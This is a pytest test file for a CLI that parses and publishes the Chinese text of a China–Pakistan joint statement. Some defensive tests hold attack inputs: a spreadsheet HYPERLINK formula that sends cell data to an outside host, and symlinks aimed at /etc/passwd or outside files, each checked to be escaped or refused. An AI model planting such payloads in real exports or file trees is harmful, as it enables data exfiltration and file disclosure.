"""The command line, in process: ``statement_site.cli.main(argv)`` with captured output.

An error in an input is one line, ``FILE:LINE:COL: message``, on standard error, exit status 1,
no traceback; these are checked as whole messages.
"""

from __future__ import annotations

import argparse
import csv
import io
import json
import os
import re
import shutil
from pathlib import Path
from typing import Any

import pytest

from statement_site.cli import _parser, main
from statement_site.export import csv_cell

from .conftest import CORPUS, ROOT, STATEMENT, STATEMENT_ID, make_project

TEXT = STATEMENT.read_text(encoding="utf-8")
TITLE = "中华人民共和国和巴基斯坦伊斯兰共和国联合声明"
SOURCE_LINE = "（新华社北京11月2日电）"
SEPARATOR = "\u3000\u3000"  # the statement is one line; two ideographic spaces part its pieces
PIECES = TEXT.split(SEPARATOR)  # the title, the 47 clauses with their labels, the source line
COMMANDS = ("check", "export", "build", "serve")


def chinese(number: int) -> str:
    """一 … 九十九, written out independently of statement_site.numerals."""
    digits = "零一二三四五六七八九"
    if number < 10:
        return digits[number]
    tens, ones = divmod(number, 10)
    return ("" if tens == 1 else digits[tens]) + "十" + (digits[ones] if ones else "")


LABELS = [f"{chinese(number)}、" for number in range(1, 48)]


def run(capsys: pytest.CaptureFixture[str], *argv: str | Path) -> tuple[int, str, str]:
    status = main([str(arg) for arg in argv])
    out, err = capsys.readouterr()
    return status, out, err


def fails_with(capsys: pytest.CaptureFixture[str], message: str, *argv: str | Path) -> None:
    """The command exits 1 with exactly ``message`` on one line of standard error."""
    status, out, err = run(capsys, *argv)
    assert (status, out, err) == (1, "", message + "\n")
    assert "Traceback" not in err


@pytest.fixture
def statement(tmp_path: Path) -> Path:
    """The bundled statement, alone in a folder (no document.yml)."""
    path = tmp_path / "statement.txt"
    shutil.copy(STATEMENT, path)
    return path


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """A copy of the bundled document folder, with its document.yml, in a corpus that has the
    vocabulary and the dictionary."""
    shutil.copytree(CORPUS, tmp_path / "corpus")
    return tmp_path / "corpus" / STATEMENT_ID


def test_the_statement_is_what_these_tests_expect() -> None:
    assert SEPARATOR.join(PIECES) == TEXT
    assert (PIECES[0], PIECES[-1], len(PIECES)) == (TITLE, SOURCE_LINE, 49)
    assert [
        piece[: len(label)] for piece, label in zip(PIECES[1:-1], LABELS, strict=True)
    ] == LABELS


# --- check -------------------------------------------------------------------------------------


def check_clause_lines(lines: list[str]) -> None:
    assert len(lines) == 47
    for number, (line, label, piece) in enumerate(
        zip(lines, LABELS, PIECES[1:-1], strict=True), start=1
    ):
        words = piece[len(label) :]
        start = f"  {number:>4}  {label:<8} "
        end = f"  ({len(words)} characters)"
        assert line.startswith(start) and line.endswith(end), line
        heading = line[len(start) : -len(end)]
        assert heading and heading.rstrip("…") in words, line


def test_check_file_prints_a_summary(capsys: pytest.CaptureFixture[str], statement: Path) -> None:
    status, out, err = run(capsys, "check", statement)
    assert (status, err) == (0, "")
    lines = out.splitlines()
    assert lines[0] == f"{statement}: 47 clauses (一、 … 四十七、), utf-8"
    assert lines[1] == f"  title:    {TITLE}"
    check_clause_lines(lines[2:49])
    assert lines[49:] == [f"  source:   {SOURCE_LINE}"]


def test_check_document_folder_shows_its_metadata(
    capsys: pytest.CaptureFixture[str], folder: Path
) -> None:
    status, out, err = run(capsys, "check", folder)
    assert (status, err) == (0, "")
    lines = out.splitlines()
    assert lines[:5] == [
        f"{folder}: 47 clauses (一、 … 四十七、), utf-8",
        f"  title:    {TITLE}",
        "  metadata: joint-statement, 2022-11-02, 北京",
        "  en:       translated 47/47, headings 47/47",
        "  zh:       headings 47/47 (original)",
    ]
    assert lines[5].startswith("     1  一、       正式访问  (66 characters)  [leaders")
    assert lines[19].startswith("    15  十五、      瓜达尔港  (67 characters)  [belt-and-road")
    assert len(lines[5:52]) == 47 and all("characters)  [" in line for line in lines[5:52])
    assert lines[52:] == [f"  source:   {SOURCE_LINE}"]


def test_check_detects_gb18030(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    path = tmp_path / "statement.gb.txt"
    path.write_bytes(TEXT.encode("gb18030"))
    status, out, _ = run(capsys, "check", path)
    assert status == 0
    assert out.splitlines()[0] == f"{path}: 47 clauses (一、 … 四十七、), gb18030"


def test_check_with_an_explicit_encoding(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    path = tmp_path / "statement.gb.txt"
    path.write_bytes(TEXT.encode("gb18030"))
    status, out, _ = run(capsys, "check", "--encoding", "gb18030", path)
    assert status == 0
    assert out.splitlines()[:2] == [
        f"{path}: 47 clauses (一、 … 四十七、), gb18030",
        f"  title:    {TITLE}",
    ]


def test_check_gb18030_forced_as_utf8(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    path = tmp_path / "statement.gb.txt"
    path.write_bytes(TEXT.encode("gb18030"))
    fails_with(
        capsys,
        f"{path}:1:1: cannot decode as utf-8: byte 0xd6",
        "check",
        "--encoding",
        "utf-8",
        path,
    )


def test_check_unknown_encoding(capsys: pytest.CaptureFixture[str], statement: Path) -> None:
    fails_with(
        capsys,
        f"{statement}:1:1: 'big-5-ish' is not a text encoding (such as utf-8, gb18030 or big5)",
        "check",
        "--encoding",
        "big-5-ish",
        statement,
    )


def test_check_uses_the_encoding_of_document_yml(
    capsys: pytest.CaptureFixture[str], folder: Path
) -> None:
    source = folder / "source.zh.txt"
    source.write_bytes(TEXT.encode("gbk"))
    with (folder / "document.yml").open("a", encoding="utf-8") as metadata:
        metadata.write("encoding: gbk\n")
    status, out, _ = run(capsys, "check", folder)
    assert status == 0
    assert out.splitlines()[0] == f"{folder}: 47 clauses (一、 … 四十七、), gbk"


# --- check: malformed input ----------------------------------------------------------------------


def write(path: Path, text: str) -> Path:
    path.write_text(text, encoding="utf-8")
    return path


def test_check_a_gap(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    path = write(tmp_path / "gap.txt", "联合声明\n一、双方同意。\n二、双方同意。\n四、双方同意。\n")
    fails_with(
        capsys,
        f"{path}:4:1: clause 三、 (3) is missing: 二、 (2) is followed by 四、 (4): "
        '"四、双方同意。"',
        "check",
        path,
    )


def test_check_a_gap_in_the_statement(capsys: pytest.CaptureFixture[str], statement: Path) -> None:
    start, end = TEXT.index(SEPARATOR + "三、"), TEXT.index("四、")
    write(statement, TEXT[:start] + SEPARATOR + TEXT[end:])
    column = start + len(SEPARATOR) + 1
    fails_with(
        capsys,
        f"{statement}:1:{column}: clause 三、 (3) is missing: 二、 (2) is followed by 四、 (4): "
        '"四、中国领导人对夏巴兹总理长期坚定致力于中巴友好…"',
        "check",
        statement,
    )


def test_check_a_duplicate(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    path = write(tmp_path / "dup.txt", "联合声明\n一、双方同意。\n二、双方同意。\n二、双方重申。\n")
    fails_with(
        capsys,
        f"{path}:4:1: duplicate clause 二、 (2): clause 2 is already at line 3, column 1: "
        '"二、双方重申。"',
        "check",
        path,
    )


def test_check_an_empty_file(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    path = write(tmp_path / "empty.txt", "")
    fails_with(capsys, f"{path}:1:1: empty document: the file has no text", "check", path)


def test_check_a_blank_file(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    path = write(tmp_path / "blank.txt", "\n\u3000\u3000\n  \n")
    fails_with(capsys, f"{path}:1:1: empty document: the file has only whitespace", "check", path)


def test_check_a_title_only_file(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    path = write(tmp_path / "title.txt", TITLE + "\n")
    fails_with(
        capsys,
        f'{path}:1:1: no numbered clauses found (expected 一、… or 第一条…): "{TITLE}"',
        "check",
        path,
    )


def test_check_binary_input(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    path = tmp_path / "picture.txt"
    path.write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR")
    fails_with(capsys, f"{path}:3:1: binary data, not text: a NUL byte (0x00)", "check", path)


def test_check_a_control_character(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    path = write(tmp_path / "control.txt", "联合声明\n一、双方\x01同意。\n")
    fails_with(
        capsys, f"{path}:2:5: binary data, not text: control character U+0001", "check", path
    )


def test_check_undecodable_input(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    path = tmp_path / "random.txt"
    path.write_bytes(bytes.fromhex("e2eb8ac2fce7cdfadbb7a3c8a398c0a5cf9992d4f899daef"))
    fails_with(capsys, f"{path}:1:1: cannot decode as UTF-8 or GB18030: byte 0xe2", "check", path)


def test_check_a_bad_document_yml(capsys: pytest.CaptureFixture[str], folder: Path) -> None:
    metadata = folder / "document.yml"
    text = metadata.read_text(encoding="utf-8")
    write(metadata, text.replace("kind: joint-statement", "kind: joint-statment"))
    line = text[: text.index("kind:")].count("\n") + 1
    fails_with(
        capsys,
        f"{metadata}:{line}:7: key 'kind': expected one of joint-statement, joint-communique, "
        "declaration, treaty, agreement, memorandum, action-plan, other, got 'joint-statment'",
        "check",
        folder,
    )


def test_check_a_file_beside_a_bad_document_yml(
    capsys: pytest.CaptureFixture[str], folder: Path
) -> None:
    metadata = folder / "document.yml"
    write(metadata, "title: [联合声明\n")
    fails_with(
        capsys,
        f"{metadata}:2:1: not valid YAML: did not find expected ',' or ']'",
        "check",
        folder / "source.zh.txt",
    )


def test_check_a_folder_with_two_texts(capsys: pytest.CaptureFixture[str], folder: Path) -> None:
    write(folder / "source.en.txt", "Joint Statement\n1. Both sides agree.\n")
    fails_with(
        capsys,
        f"{folder}: expected one source text (*.txt) or a key 'text' in document.yml; "
        "found source.en.txt, source.zh.txt",
        "check",
        folder,
    )


def test_check_a_missing_file(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    path = tmp_path / "missing.txt"
    fails_with(capsys, f"{path}: no such file", "check", path)


# --- export --------------------------------------------------------------------------------------


def export_json(capsys: pytest.CaptureFixture[str], path: Path) -> Any:
    status, out, err = run(capsys, "export", path, "--format", "json")
    assert (status, err) == (0, "")
    return json.loads(out)


def test_export_json(capsys: pytest.CaptureFixture[str], statement: Path) -> None:
    data = export_json(capsys, statement)
    assert {"title", "source", "metadata", "clauses"} <= set(data)
    assert (data["title"], data["source"], data["metadata"]) == (TITLE, SOURCE_LINE, None)
    clauses = data["clauses"]
    assert [clause["number"] for clause in clauses] == list(range(1, 48))
    assert [clause["label"] for clause in clauses] == LABELS
    for clause in clauses:
        assert {"number", "label", "text"} <= set(clause)
        assert not clause["text"].startswith(clause["label"])
        assert not re.match(r"[一二三四五六七八九十]+、", clause["text"])
    # The texts joined with their labels are the clause parts of the source, exactly.
    assert [clause["label"] + clause["text"] for clause in clauses] == PIECES[1:-1]
    assert "".join(c["label"] + c["text"] for c in clauses) == "".join(PIECES[1:-1])


def test_export_json_of_a_document_folder(capsys: pytest.CaptureFixture[str], folder: Path) -> None:
    data = export_json(capsys, folder)
    assert data["id"] == STATEMENT_ID
    assert data["metadata"] == {
        "title": TITLE,
        "title_en": "Joint Statement between the People's Republic of China and the Islamic "
        "Republic of Pakistan",
        "kind": "joint-statement",
        "parties": ["中华人民共和国", "巴基斯坦伊斯兰共和国"],
        "date": "2022-11-02",
        "place": "北京",
        "source": "新华社北京11月2日电",
        "source_url": None,
        "language": "zh",
    }
    assert data["clauses"][14]["url"] == f"{STATEMENT_ID}/15/"
    assert [c["label"] + c["text"] for c in data["clauses"]] == PIECES[1:-1]


def test_export_is_json_by_default(capsys: pytest.CaptureFixture[str], statement: Path) -> None:
    status, out, _ = run(capsys, "export", statement)
    assert status == 0
    assert json.loads(out) == export_json(capsys, statement)


def test_export_csv(capsys: pytest.CaptureFixture[str], statement: Path) -> None:
    status, out, err = run(capsys, "export", statement, "--format", "csv")
    assert (status, err) == (0, "")
    rows = list(csv.reader(io.StringIO(out, newline="")))
    assert rows[0] == ["number", "label", "heading", "text", "topics", "entities"]
    assert len(rows) == 48
    clauses = export_json(capsys, statement)["clauses"]
    assert [row[:4] for row in rows[1:]] == [
        [str(c["number"]), c["label"], c["heading"], c["text"]] for c in clauses
    ]
    assert [row[1] + row[3] for row in rows[1:]] == PIECES[1:-1]
    # And back: writing the rows again, every cell quoted, gives the same CSV.
    again = io.StringIO()
    csv.writer(again, lineterminator="\n", quoting=csv.QUOTE_ALL).writerows(rows)
    assert again.getvalue() == out


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_export_csv_never_writes_a_formula_a_spreadsheet_would_run(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, start: str
) -> None:
    formula = f'{start}HYPERLINK("https://x.org/?"&A1,"click")'
    text = f"联合声明\n一、{formula}\n二、双方同意。\n"
    path = write(tmp_path / "formula.txt", text)
    status, out, _ = run(capsys, "export", path, "--format", "csv")
    assert status == 0
    rows = list(csv.reader(io.StringIO(out, newline="")))
    text_cell = rows[1][3]
    assert text_cell.startswith("'") and text_cell[1:].strip() == formula.strip()
    assert rows[2][3] == "双方同意。"  # other cells as they are
    # The JSON keeps the text exactly.
    assert export_json(capsys, path)["clauses"][0]["text"].strip() == formula.strip()


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_csv_cell_that_would_start_a_formula_is_escaped(start: str) -> None:
    assert csv_cell(f"{start}1+1") == f"'{start}1+1"
    assert csv_cell(f"a{start}1") == f"a{start}1"
    assert csv_cell(15) == "15"


def test_export_csv_quotes_commas_quotes_and_line_breaks(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    text = '联合声明\n一、双方同意, "合作"。\n\n　　双方重申。\n二、双方同意。\n'
    path = write(tmp_path / "quotes.txt", text)
    status, out, _ = run(capsys, "export", path, "--format", "csv")
    assert status == 0
    rows = list(csv.reader(io.StringIO(out, newline="")))
    clauses = export_json(capsys, path)["clauses"]
    assert [row[3] for row in rows[1:]] == [clause["text"] for clause in clauses]
    assert rows[1][3].startswith('双方同意, "合作"。')


@pytest.mark.parametrize("form", ["json", "csv"])
def test_export_to_a_file(
    capsys: pytest.CaptureFixture[str], statement: Path, tmp_path: Path, form: str
) -> None:
    _, expected, _ = run(capsys, "export", statement, "--format", form)
    output = tmp_path / f"statement.{form}"
    status, out, err = run(capsys, "export", statement, "--format", form, "-o", output)
    assert (status, out, err) == (0, "", "")
    assert output.read_bytes().decode("utf-8") == expected


def test_export_to_a_missing_folder(
    capsys: pytest.CaptureFixture[str], statement: Path, tmp_path: Path
) -> None:
    output = tmp_path / "no-such-folder" / "statement.json"
    fails_with(
        capsys,
        f"{output}: cannot write: No such file or directory",
        "export",
        statement,
        "-o",
        output,
    )


def test_export_of_a_bad_text_writes_no_file(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    path = write(tmp_path / "empty.txt", "")
    output = tmp_path / "out.json"
    fails_with(
        capsys, f"{path}:1:1: empty document: the file has no text", "export", path, "-o", output
    )
    assert not output.exists()


# --- help and usage ------------------------------------------------------------------------------


def help_text(capsys: pytest.CaptureFixture[str], *argv: str) -> str:
    with pytest.raises(SystemExit) as info:
        main([*argv, "--help"])
    out, err = capsys.readouterr()
    assert (info.value.code, err) == (0, "")
    return " ".join(out.split())  # argparse wraps lines to the terminal's width


@pytest.mark.parametrize(
    ("command", "says"),
    [
        (
            "check",
            "Parse a source text (or a document folder, with its document.yml), check "
            "that its clauses are numbered 1..n without gaps or duplicates, and list them.",
        ),
        (
            "export",
            "Write the parsed document: JSON {title, source, metadata, clauses: "
            "[{number, label, text, heading}]} or CSV with one row per clause.",
        ),
        (
            "build",
            "Render every document of the corpus and build the site with MkDocs, in strict mode.",
        ),
        (
            "serve",
            "Serve the site at http://127.0.0.1:8000/ and rebuild it whenever a file of "
            "the corpus or of docs/ changes.",
        ),
    ],
)
def test_help_of_each_command(capsys: pytest.CaptureFixture[str], command: str, says: str) -> None:
    text = help_text(capsys, command)
    assert text.startswith(f"usage: statement-site {command} ")
    assert says in text


def test_help_lists_every_command(capsys: pytest.CaptureFixture[str]) -> None:
    text = help_text(capsys)
    assert text.startswith("usage: statement-site ")
    for line in [
        "check parse and validate a source text, and list its clauses",
        "export write the parsed document as JSON or CSV",
        "build build the site from the corpus",
        "serve serve the site locally, rebuilding on every change of the corpus",
    ]:
        assert line in text


def test_no_command_prints_usage(capsys: pytest.CaptureFixture[str]) -> None:
    status, out, err = run(capsys)
    assert (status, out) == (2, "")
    assert err.startswith("usage: statement-site ")
    assert all(command in err for command in COMMANDS)


def test_unknown_command_is_a_usage_error(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as info:
        main(["publish"])
    _, err = capsys.readouterr()
    assert info.value.code == 2
    assert "invalid choice: 'publish'" in err


def test_missing_argument_is_a_usage_error(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as info:
        main(["check"])
    _, err = capsys.readouterr()
    assert info.value.code == 2
    assert err.splitlines()[-1] == (
        "statement-site check: error: the following arguments are required: FILE"
    )


def test_version(capsys: pytest.CaptureFixture[str]) -> None:
    from statement_site import __version__

    with pytest.raises(SystemExit) as info:
        main(["--version"])
    out, _ = capsys.readouterr()
    assert (info.value.code, out) == (0, f"statement-site {__version__}\n")


# --- build ---------------------------------------------------------------------------------------


def site_files(site: Path) -> dict[str, bytes]:
    return {
        str(path.relative_to(site)): path.read_bytes()
        for path in sorted(site.rglob("*"))
        if path.is_file()
    }


SECOND_ID = "2023-05-18-second-statement"
SECOND_METADATA = """\
title: 第二份联合声明
kind: joint-statement
parties: [中华人民共和国, 某国]
date: 2023-05-18
place: 西安
source: 新华社西安5月18日电
language: zh
"""
SECOND_SOURCE = "第二份联合声明\n一、双方同意加强合作。\n二、双方同意保持沟通。\n"


def test_build_keeps_the_site_on_a_bad_text_and_leaves_no_stale_page(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    project = make_project(tmp_path).resolve()
    second = project / "corpus" / SECOND_ID
    second.mkdir()
    write(second / "document.yml", SECOND_METADATA)
    write(second / "source.zh.txt", SECOND_SOURCE)
    site = project / "site"
    build: list[str | Path] = ["build", "-f", project / "mkdocs.yml", "-d", site]

    # 1. A good build.
    status, _, err = run(capsys, *build)
    assert status == 0, err
    assert err.splitlines()[-1] == f"built {site}"
    before = site_files(site)
    assert f"{STATEMENT_ID}/3/index.html" in before
    assert f"{SECOND_ID}/2/index.html" in before

    # 2. Clause 三 deleted: exit 1, the place of the problem, the site as it was.
    source = project / "corpus" / STATEMENT_ID / "source.zh.txt"
    start, end = TEXT.index(SEPARATOR + "三、"), TEXT.index("四、")
    write(source, TEXT[:start] + SEPARATOR + TEXT[end:])
    column = start + len(SEPARATOR) + 1
    fails_with(
        capsys,
        f"{source}:1:{column}: clause 三、 (3) is missing: 二、 (2) is followed by 四、 (4): "
        '"四、中国领导人对夏巴兹总理长期坚定致力于中巴友好…"\n'
        "1 of 2 documents refused; `statement-site build --skip-invalid` publishes the other 1",
        *build,
    )
    assert site_files(site) == before
    assert sorted(p.name for p in project.iterdir()) == ["corpus", "docs", "mkdocs.yml", "site"]

    # 3. A bad document.yml: the same.
    write(source, TEXT)
    metadata = second / "document.yml"
    write(metadata, SECOND_METADATA.replace("date: 2023-05-18", "date: 2023-13-18"))
    fails_with(
        capsys,
        f"{metadata}:4:7: key 'date': expected a date written YYYY-MM-DD, got '2023-13-18'\n"
        "1 of 2 documents refused; `statement-site build --skip-invalid` publishes the other 1",
        *build,
    )
    assert site_files(site) == before

    # 4. The second document removed: its pages are gone, the first's are there.
    shutil.rmtree(second)
    status, _, err = run(capsys, *build)
    assert status == 0, err
    after = site_files(site)
    assert not (site / SECOND_ID).exists()
    assert not any(SECOND_ID in path for path in after)
    assert not any("第二份联合声明".encode() in content for content in after.values())
    assert f"{STATEMENT_ID}/3/index.html" in after
    assert sorted(p.name for p in project.iterdir()) == ["corpus", "docs", "mkdocs.yml", "site"]


def test_build_refuses_a_site_folder_that_holds_the_docs(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    project = make_project(tmp_path).resolve()
    config = project / "mkdocs.yml"
    fails_with(
        capsys,
        f"{config}: Config value 'site_dir': The 'docs_dir' should not be within the 'site_dir' "
        "as this can mean the source files are overwritten by the output or it will be deleted "
        f"if --clean is passed to mkdocs build. (site_dir: '{project}', docs_dir: "
        f"'{project / 'docs'}')",
        "build",
        "-f",
        config,
        "-d",
        project,
    )
    assert sorted(p.name for p in project.iterdir()) == ["corpus", "docs", "mkdocs.yml"]


def test_build_without_a_configuration(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    config = tmp_path / "mkdocs.yml"
    fails_with(capsys, f"{config}: no such file", "build", "-f", config)


# --- the README documents every command (like sqlite-utils' tests/test_docs.py) -----------------


def commands() -> list[str]:
    parser = _parser()
    for action in parser._actions:
        if isinstance(action, argparse._SubParsersAction):
            return sorted(action.choices)
    raise AssertionError("no commands")


def test_the_parser_has_the_commands() -> None:
    assert commands() == sorted(COMMANDS)


@pytest.mark.parametrize("command", commands())
def test_readme_documents_each_command(command: str) -> None:
    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    assert f"statement-site {command}" in readme


def test_a_long_build_says_how_far_it_is(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from statement_site import plugin

    monkeypatch.setattr(plugin, "PROGRESS_SECONDS", 0.0)  # every document is "a while"
    project = make_project(tmp_path)
    status = main(["build", "-f", str(project / "mkdocs.yml")])
    err = capsys.readouterr().err
    assert status == 0
    assert re.search(r"^statement-site: 1/1 documents read and tagged \(\d+ s\)$", err, re.M)
    written = re.findall(r"^statement-site: (\d+)/(\d+) pages written \((zh|en)\) \(\d+ s\)$",
                         err, re.M)  # fmt: skip
    for lang in ("zh", "en"):  # every page of each site counted once, up to the whole
        counts = [(int(done), int(total)) for done, total, of in written if of == lang]
        total = counts[0][1]
        assert total > 50 and counts == [(n, total) for n in range(1, total + 1)]


@pytest.mark.parametrize("value", ["abc", "", "1.5", "-99999999999", "99999999999999999999"])
def test_a_source_date_epoch_that_is_no_date_is_refused(
    capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    value: str,
) -> None:
    monkeypatch.setenv("SOURCE_DATE_EPOCH", value)
    project = make_project(tmp_path)
    status, out, err = run(capsys, "build", "-f", project / "mkdocs.yml")
    assert (status, out) == (1, "")
    assert err == (
        f"SOURCE_DATE_EPOCH={value!r}: expected the build's date as a whole number of seconds "
        "since 1970-01-01 (e.g. the last commit's: git log -1 --format=%ct)\n"
    )
    assert not (project / "site").exists()


@pytest.mark.parametrize("target", ["/etc/passwd", "/etc", "../outside.md"])
def test_a_link_in_docs_to_something_outside_it_is_refused(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, target: str
) -> None:
    project = make_project(tmp_path)
    (tmp_path / "outside.md").write_text("# secret\n", encoding="utf-8")
    link = project / "docs" / "leak.md"
    link.symlink_to(target if target.startswith("/") else tmp_path / "outside.md")
    status, _, err = run(capsys, "build", "-f", project / "mkdocs.yml")
    assert status == 1
    assert err.startswith(f"{link}: a link to something outside {project / 'docs'} (")
    assert "secret" not in err and "root:" not in err
    assert not (project / "site").exists()


def test_docs_nested_too_deep_or_a_folder_named_like_a_site_language_is_refused(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    project = make_project(tmp_path, docs={"en/other.md": "# Other\n"})
    status, _, err = run(capsys, "build", "-f", project / "mkdocs.yml")
    assert (status, err) == (
        1,
        f"{project / 'docs' / 'en'}: a folder named like the en site, which replaces it when it "
        "is built: write a page's en version as docs/<page>.en.md\n",
    )
    shutil.rmtree(project / "docs" / "en")
    deep = project / "docs" / "/".join(["d"] * 40)
    deep.mkdir(parents=True)
    status, _, err = run(capsys, "build", "-f", project / "mkdocs.yml")
    assert status == 1 and err.endswith("folders nested more than 30 deep in docs/\n")


def test_export_never_writes_over_its_input_a_document_folder_or_a_hard_link(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    project = make_project(tmp_path)
    folder = project / "corpus" / STATEMENT_ID
    source = folder / "source.zh.txt"
    before = source.read_bytes()
    for output in (source, folder / "out.json"):
        status, _, err = run(capsys, "export", folder, "-o", output)
        assert status == 1
        assert err.startswith(f"{output}: refusing to write the export over the text it reads")
    assert source.read_bytes() == before
    status, _, err = run(capsys, "export", folder, "-o", "/dev/full")
    assert (status, err) == (1, "/dev/full: cannot write: No space left on device\n")
    # A hard link to the source is replaced, never written through; a non-export is refused.
    link = tmp_path / "hard.json"
    os.link(source, link)
    status, _, err = run(capsys, "export", folder, "-o", link)
    assert (status, err) == (0, "")
    assert source.read_bytes() == before
    assert json.loads(link.read_text(encoding="utf-8"))["id"] == STATEMENT_ID
    status, _, err = run(capsys, "export", folder, "-o", project / "mkdocs.yml")
    assert status == 1 and "refusing to replace a file that is no export" in err


def test_build_with_a_configuration_that_is_no_file(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    fifo = tmp_path / "mkdocs.yml"
    os.mkfifo(fifo)
    assert run(capsys, "build", "-f", fifo) == (1, "", f"{fifo}: not a regular file\n")
    assert run(capsys, "build", "-f", tmp_path) == (1, "", f"{tmp_path}: not a regular file\n")


def test_the_lock_file_is_never_followed_or_waited_on(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    project = make_project(tmp_path)
    lock = project / ".site.lock"
    os.mkfifo(lock)  # a FIFO would block the open forever
    status, _, err = run(capsys, "build", "-f", project / "mkdocs.yml")
    assert status == 1 and "its lock file" in err and "is not a regular file" in err
    lock.unlink()
    victim = tmp_path / "victim.txt"
    victim.write_text("keep\n", encoding="utf-8")
    lock.symlink_to(victim)  # a link: the build would write into what it points at
    status, _, err = run(capsys, "build", "-f", project / "mkdocs.yml")
    assert status == 1 and "cannot use its lock file" in err
    assert victim.read_text(encoding="utf-8") == "keep\n"
